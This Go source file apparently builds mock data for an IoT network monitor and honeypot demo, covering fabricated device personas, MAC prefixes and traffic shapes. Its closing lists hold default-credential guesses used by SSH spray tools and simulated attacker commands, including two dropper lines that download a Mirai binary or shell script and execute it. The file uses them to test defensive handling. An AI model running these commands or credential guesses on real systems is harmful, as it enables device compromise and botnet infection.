package mock

// Vendor OUI prefixes for fabricated MACs, lowercase to match the
// normalized form the identity store keeps.
var vendorPrefixes = map[string]string{
	"hikvision": "44:19:b6",
	"ecobee":    "44:61:32",
	"tp-link":   "50:c7:bf",
	"sonos":     "00:0e:58",
	"espressif": "24:0a:c4",
	"epson":     "00:26:ab",
	"amazon":    "fc:a6:67",
	"apple":     "f0:18:98",
	"samsung":   "8c:71:f8",
}
// persona is one fabricated device and its steady-state traffic shape.
// PPS and BPS are per-second averages; DutyCycle is the probability a
// given tick emits at all, so sensors stay bursty while cameras stream.
type persona struct {
	ID     string
	Type   string
	Vendor string
	MAC    string
	IP     string

	PPS       float64
	BPS       float64
	DstIPs    []string
	DstPorts  []int
	Protos    []string
	DutyCycle float64

	// AutoApprove personas are walked through approval during Seed.
	// The rest stay pending so the operator has something to click.
	AutoApprove bool
}

// defaultFleet is a plausible small-office mix. WAN destinations use
// documentation prefixes (203.0.113.0/24, 198.51.100.0/24) so demo
// traffic never references a real operator; LAN addresses sit on
// 192.168.1.0/24 with the gateway at .1.
var defaultFleet = []persona{
	{
		ID: "cam-entrance", Type: "camera", Vendor: "hikvision",
		MAC: "44:19:b6:3c:10:01", IP: "192.168.1.20",
		PPS: 45, BPS: 320_000,
		DstIPs:   []string{"198.51.100.23", "192.168.1.1"},
		DstPorts: []int{443, 554, 53, 123},
		Protos:   []string{"tcp", "udp"},
		DutyCycle: 1, AutoApprove: true,
	},
	{
		ID: "cam-backyard", Type: "camera", Vendor: "hikvision",
		MAC: "44:19:b6:3c:10:02", IP: "192.168.1.21",
		PPS: 38, BPS: 280_000,
		DstIPs:   []string{"198.51.100.24", "192.168.1.1"},
		DstPorts: []int{443, 554, 53, 123},
		Protos:   []string{"tcp", "udp"},
		DutyCycle: 1, AutoApprove: true,
	},
	{
		ID: "doorbell-porch", Type: "doorbell", Vendor: "amazon",
		MAC: "fc:a6:67:52:00:07", IP: "192.168.1.22",
		PPS: 4, BPS: 26_000,
		DstIPs:   []string{"198.51.100.61", "192.168.1.1"},
		DstPorts: []int{443, 53, 123},
		Protos:   []string{"tcp", "udp"},
		DutyCycle: 1, AutoApprove: true,
	},
	{
		ID: "thermostat-hall", Type: "thermostat", Vendor: "ecobee",
		MAC: "44:61:32:0a:9e:11", IP: "192.168.1.23",
		PPS: 0.8, BPS: 700,
		DstIPs:   []string{"198.51.100.40", "192.168.1.1"},
		DstPorts: []int{443, 53, 123},
		Protos:   []string{"tcp", "udp"},
		DutyCycle: 0.5, AutoApprove: true,
	},
	{
		ID: "plug-office", Type: "plug", Vendor: "tp-link",
		MAC: "50:c7:bf:91:44:23", IP: "192.168.1.24",
		PPS: 0.5, BPS: 400,
		DstIPs:   []string{"198.51.100.88", "192.168.1.1"},
		DstPorts: []int{443, 53},
		Protos:   []string{"tcp"},
		DutyCycle: 0.35, AutoApprove: true,
	},
	{
		ID: "speaker-kitchen", Type: "speaker", Vendor: "sonos",
		MAC: "00:0e:58:7d:21:30", IP: "192.168.1.25",
		PPS: 6, BPS: 48_000,
		DstIPs:   []string{"198.51.100.77", "192.168.1.1"},
		DstPorts: []int{443, 53, 123},
		Protos:   []string{"tcp", "udp"},
		DutyCycle: 0.8, AutoApprove: true,
	},
	{
		ID: "hub-utility", Type: "hub", Vendor: "espressif",
		MAC: "24:0a:c4:66:ab:40", IP: "192.168.1.26",
		PPS: 2.5, BPS: 2_200,
		DstIPs:   []string{"198.51.100.90", "192.168.1.1"},
		DstPorts: []int{8883, 443, 53, 123},
		Protos:   []string{"tcp", "udp"},
		DutyCycle: 1, AutoApprove: true,
	},
	{
		ID: "printer-studio", Type: "printer", Vendor: "epson",
		MAC: "00:26:ab:b3:07:55", IP: "192.168.1.27",
		PPS: 0.3, BPS: 900,
		DstIPs:   []string{"198.51.100.95", "192.168.1.1"},
		DstPorts: []int{443, 53},
		Protos:   []string{"tcp"},
		DutyCycle: 0.25, AutoApprove: true,
	},
	{
		// Talks to the zigbee hub, not the internet. Left pending so a
		// fresh demo always has an approval waiting.
		ID: "sensor-garage", Type: "sensor", Vendor: "espressif",
		MAC: "24:0a:c4:66:ab:41", IP: "192.168.1.28",
		PPS: 0.4, BPS: 350,
		DstIPs:   []string{"192.168.1.26", "192.168.1.1"},
		DstPorts: []int{8883, 53},
		Protos:   []string{"tcp"},
		DutyCycle: 0.4, AutoApprove: false,
	},
}

// strayVendors are consumer brands a wandering phone could carry.
var strayVendors = []string{"apple", "samsung"}

// noiseSources are internet background-radiation addresses that probe
// the honeypot without belonging to any fleet device.
var noiseSources = []string{
	"203.0.113.9", "203.0.113.48", "203.0.113.177",
	"198.51.100.12", "198.51.100.203",
}

// Credential guesses for fabricated honeypot login attempts, in the
// order real SSH spray tools tend to walk them.
var (
	loginUsers     = []string{"root", "admin", "pi", "user", "admin"}
	loginPasswords = []string{"123456", "admin", "raspberry", "password", "12345678"}
)

// attackCommands is what a strike "types" after connecting. The last
// two read as droppers and escalate to malware handling downstream.
var attackCommands = []string{
	"cat /proc/cpuinfo",
	"uname -a",
	"busybox wget http://203.0.113.66/bins/mirai.arm -O /tmp/.x",
	"cd /tmp && wget http://203.0.113.66/bot.sh && sh bot.sh",
}
